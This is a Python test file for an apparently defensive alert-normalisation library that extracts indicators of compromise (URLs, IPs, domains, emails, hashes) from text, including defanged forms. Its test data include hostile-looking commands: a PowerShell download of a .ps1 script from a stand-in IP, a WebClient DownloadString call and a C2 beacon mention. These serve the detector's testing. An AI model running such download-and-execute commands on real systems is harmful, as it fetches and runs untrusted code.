"""Observables: the right type, role and taint for each value, and no false ones."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.model import (
    Alert,
    Email,
    Endpoint,
    File,
    Hashes,
    Host,
    ObservableRole,
    ObservableType,
    Process,
    User,
)
from tocsin.normalize.mentions import MAX_TEXT, mentions
from tocsin.normalize.observables import MAX_OBSERVABLES, observables_of

SHA256 = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
MENTIONED = {
    "iwr http://203.0.113.66:8080/p.ps1 -OutFile x": ["url http://203.0.113.66:8080/p.ps1"],
    "see hxxps://evil[.]example[.]com/a).": ["url https://evil.example.com/a"],
    "(https://example.com/a_(b))": ["url https://example.com/a_(b)"],
    "beacon to c2.example.net, then 198.51.100.7": ["domain c2.example.net", "ip 198.51.100.7"],
    "c2[.]example[.]net and 192.0.2[.]9": ["domain c2.example.net", "ip 192.0.2.9"],
    "mail ann@example.org now": ["email ann@example.org"],
    "ann[at]example[.]org": ["email ann@example.org"],
    f"hash {SHA256.upper()} seen": [f"hash {SHA256}"],
    "to 2001:db8::7 port 1": ["ip 2001:db8::7"],
    r"\\192.0.2.5\share\a.exe": ["ip 192.0.2.5"],
    "EXAMPLE.COM": ["domain example.com"],
    "xn--bcher-kva.example.net": ["domain xn--bcher-kva.example.net"],
}
NOT_MENTIONED = (
    r"C:\Windows\System32\cmd.exe /c powershell.exe -File run.ps1",
    "(New-Object System.Net.WebClient).DownloadString($u.name)",
    "python3 setup.py install && ./build.sh",
    "Version=4.0.0.0, Culture=neutral",
    r"C:\Program Files\App\1.2.3.4\app.dll",
    "Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36",
    "archive.zip report.docx notes.md",
    "host1.corp.local and printer.lan",
    "foo.bar( x.y )",
    "10:20:30 and 12:34",
    "0" * 64,
    "1" * 40,
    "",
    "...",
    "co.uk",
)


@pytest.mark.parametrize(("text", "expected"), MENTIONED.items())
def test_an_indicator_in_text_is_found(text: str, expected: list[str]) -> None:
    assert [f"{kind} {value}" for kind, value in mentions(text)] == expected


@pytest.mark.parametrize("text", NOT_MENTIONED)
def test_files_code_and_versions_are_no_indicators(text: str) -> None:
    assert mentions(text) == ()


def test_only_so_much_text_is_read() -> None:
    assert mentions("x" * MAX_TEXT + " http://example.com/") == ()


@given(st.text(max_size=400))
def test_no_text_makes_the_scan_raise(text: str) -> None:
    mentions(text)


def roles(alert: Alert) -> dict[str, tuple[ObservableRole, bool]]:
    return {item.value: (item.role, item.tainted) for item in observables_of(alert, {})}


def test_a_value_is_listed_once_in_its_most_specific_role() -> None:
    alert = Alert(
        title="t",
        source=Endpoint(ip="192.0.2.1"),
        host=Host(ip="192.0.2.1"),
        process=Process(command_line="ping 192.0.2.1 198.51.100.1"),
    )
    assert roles(alert) == {
        "192.0.2.1": (ObservableRole.SOURCE, False),
        "198.51.100.1": (ObservableRole.MENTION, True),
    }


def test_what_somebody_wrote_is_tainted_and_what_a_sensor_measured_is_not() -> None:
    alert = Alert(
        title="t",
        url="http://www.example.com/?to=http%3A%2F%2F203.0.113.9%2Fx",
        email=Email(sender="Eve <eve@example.net>", recipients=("ann@example.org",)),
        user=User(email="ann@example.com"),
        file=File(path="/tmp/x", hash=Hashes(sha256=SHA256)),
    )
    assert roles(alert) == {
        SHA256: (ObservableRole.FILE, False),
        "http://www.example.com/?to=http%3A%2F%2F203.0.113.9%2Fx": (ObservableRole.URL, True),
        "www.example.com": (ObservableRole.URL, True),
        "http://203.0.113.9/x": (ObservableRole.MENTION, True),
        "203.0.113.9": (ObservableRole.MENTION, True),
        "eve@example.net": (ObservableRole.SENDER, True),
        "example.net": (ObservableRole.SENDER, True),
        "ann@example.org": (ObservableRole.RECIPIENT, False),
        "ann@example.com": (ObservableRole.USER, False),
    }


def test_a_hash_without_a_file_belongs_to_the_process() -> None:
    alert = Alert(
        title="t", process=Process(executable="a.exe"), file=File(hash=Hashes(sha256=SHA256))
    )
    assert roles(alert) == {SHA256: (ObservableRole.PROCESS, False)}


def test_the_unspecified_address_and_host_names_without_a_dot_are_none() -> None:
    alert = Alert(
        title="t",
        source=Endpoint(ip="0.0.0.0", domain="ws-1"),
        destination=Endpoint(domain="198.51.100.5"),
    )
    assert roles(alert) == {"198.51.100.5": (ObservableRole.DESTINATION, True)}


def test_there_are_never_more_than_the_limit() -> None:
    text = " ".join(f"198.51.100.{number}" for number in range(1, 200))
    alert = Alert(title="t", description=text, process=Process(command_line=text))
    assert len(observables_of(alert, {})) == MAX_OBSERVABLES


def test_related_values_become_observables() -> None:
    related = {"related.ip": ("198.51.100.1", "nonsense"), "related.hash": ("a" * 128,)}
    found = observables_of(Alert(title="t"), related)
    assert [(item.type, item.role) for item in found] == [
        (ObservableType.HASH, ObservableRole.FILE),
        (ObservableType.IP, ObservableRole.MENTION),
    ]
